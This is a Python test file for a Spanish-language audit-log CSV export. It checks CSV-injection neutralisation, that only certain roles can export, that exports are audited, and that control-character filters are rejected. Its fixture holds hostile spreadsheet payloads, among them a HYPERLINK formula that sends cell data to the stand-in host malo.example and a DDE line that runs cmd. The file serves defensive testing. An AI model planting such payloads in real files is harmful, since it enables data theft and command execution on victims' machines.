"""The CSV export: ADMIN and AUTORIDAD, the query's filters, audited, and every cell that a
spreadsheet would run as a formula neutralised (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import uuid

import httpx
from fastapi import FastAPI

from sigexp_common.broker import Broker
from sigexp_common.envelope import Envelope
from sigexp_testing.tokens import TokenFactory
from sigexp_testing.waiting import wait_until

HOSTILES = {
    "usuario": '=HYPERLINK("http://malo.example/?d="&A1,"ver")',
    "recurso": "+cmd|' /C calc'!A0",
    "perfil": "@SUMA(1+1)",
    "resultado": "-2+3",
}


def _auth(tokens: TokenFactory, perfil: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {tokens.token(perfil)}"}


def _acceso(expediente_id: uuid.UUID, **campos: str) -> Envelope:
    return Envelope(
        source="/sigexp/expedientes",
        type="sigexp.acceso.registrado.v1",
        subject=str(expediente_id),
        data={
            "en": "2026-11-20T10:00:00+00:00",
            "usuario_id": str(uuid.uuid4()),
            "usuario": "mesa.cap",
            "perfil": "MESA_ENTRADA",
            "accion": "expediente.ver",
            "expediente_id": str(expediente_id),
            **campos,
        },
    )


async def _exportar(cliente: httpx.AsyncClient, tokens: TokenFactory, perfil: str, **filtros):
    return await cliente.get(
        "/api/v1/auditoria/exportar", params=filtros, headers=_auth(tokens, perfil)
    )


async def test_la_exportacion_csv_neutraliza_celdas_que_parecen_formulas(
    servicio: tuple[FastAPI, httpx.AsyncClient], bus: Broker, tokens: TokenFactory
) -> None:
    _, cliente = servicio
    expediente_id = uuid.uuid4()
    eventos = [
        _acceso(expediente_id, **HOSTILES),
        _acceso(expediente_id, usuario="\t=1+1", recurso="\r=2+2", accion="expediente.editar"),
        _acceso(expediente_id, usuario="Núñez", recurso="expediente/normal"),
    ]
    for evento in eventos:
        await bus.publish(evento.to_bytes(), evento.type, message_id=str(evento.id))

    async def filas() -> list[dict[str, str]]:
        r = await _exportar(cliente, tokens, "AUTORIDAD", expediente_id=str(expediente_id))
        assert r.status_code == 200, r.text
        texto = r.content.decode("utf-8-sig")
        return [f for f in csv.DictReader(io.StringIO(texto)) if f["accion"].startswith("exp")]

    async def llegaron() -> bool:
        return len(await filas()) == 3

    await wait_until(llegaron)
    r = await _exportar(cliente, tokens, "ADMIN", expediente_id=str(expediente_id))
    assert r.headers["content-type"].startswith("text/csv")
    assert "attachment" in r.headers["content-disposition"]
    leidas = await filas()
    for fila in leidas:
        for columna, valor in fila.items():
            assert not valor.startswith(("=", "+", "-", "@", "\t", "\r")), (columna, valor)
    hostil = next(f for f in leidas if f["usuario"].startswith("'="))
    for columna, original in HOSTILES.items():
        assert hostil[columna] == "'" + original, columna
    tabulada = next(f for f in leidas if f["accion"] == "expediente.editar")
    assert (tabulada["usuario"], tabulada["recurso"]) == ("'\t=1+1", "'\r=2+2")
    normal = next(f for f in leidas if f["usuario"] == "Núñez")
    assert normal["recurso"] == "expediente/normal"


async def test_solo_admin_y_autoridad_exportan_y_la_exportacion_se_audita(
    servicio: tuple[FastAPI, httpx.AsyncClient], tokens: TokenFactory
) -> None:
    _, cliente = servicio
    for perfil in ("MESA_ENTRADA", "CONSULTA"):
        assert (await _exportar(cliente, tokens, perfil)).status_code == 403, perfil
    assert (await _exportar(cliente, tokens, "ADMIN", accion="auditoria.exportar")).is_success

    async def auditada() -> bool:
        r = await _exportar(cliente, tokens, "ADMIN", accion="auditoria.exportar")
        return "auditoria.exportar" in r.text.split("\r\n", 1)[-1]

    await wait_until(auditada)


async def test_un_filtro_con_caracteres_de_control_es_422_antes_de_exportar_nada(
    servicio: tuple[FastAPI, httpx.AsyncClient], tokens: TokenFactory
) -> None:
    _, cliente = servicio
    r = await _exportar(cliente, tokens, "ADMIN", accion="\x00")

    assert r.status_code == 422, r.text
    assert r.headers["content-type"] == "application/problem+json"
    assert [e["campo"] for e in r.json()["errors"]] == ["accion"]
